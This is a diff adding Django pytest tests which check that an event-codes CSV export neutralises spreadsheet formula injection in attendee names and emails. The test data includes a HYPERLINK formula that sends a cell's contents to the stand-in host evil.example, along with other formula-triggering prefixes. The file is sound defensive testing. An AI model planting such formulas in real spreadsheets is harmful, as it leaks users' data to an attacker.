@@ -1,0 +1,50 @@
+"""The provider's CSV of an event's codes opens in a spreadsheet as text, whatever attendees typed."""
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+
+from codes.format import generate_codes
+from codes.models import IcpCode
+
+from ..factories import EventFactory, MembershipFactory
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1;"Click")',
+        "+7 999 123-45-67",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        "＝1+1",  # full-width equals sign, folded to "=" by spreadsheet applications
+    ],
+)
+def test_codes_export_escapes_formulas_in_names_and_emails(client, typed):
+    event = EventFactory(organization=MembershipFactory().organization, approved=True)
+    [code] = generate_codes(1)
+    IcpCode.objects.create(code=code, event=event, holder_name=typed, holder_email=typed)
+    client.force_login(event.organization.memberships.get().user)
+
+    export = client.get(reverse("codes:codes_export", args=[event.pk])).content.decode("utf-8-sig")
+
+    [header, row] = list(csv.reader(io.StringIO(export), delimiter=";"))
+    assert row[header.index("holder_name")] == "'" + typed
+    assert row[header.index("holder_email")] == "'" + typed
+
+
+def test_codes_export_leaves_ordinary_names_as_they_are(client):
+    event = EventFactory(organization=MembershipFactory().organization, approved=True)
+    [code] = generate_codes(1)
+    IcpCode.objects.create(code=code, event=event, holder_name="Петрова Мария", holder_email="maria@example.org")
+    client.force_login(event.organization.memberships.get().user)
+
+    export = client.get(reverse("codes:codes_export", args=[event.pk])).content.decode("utf-8-sig")
+
+    assert "Петрова Мария;maria@example.org" in export
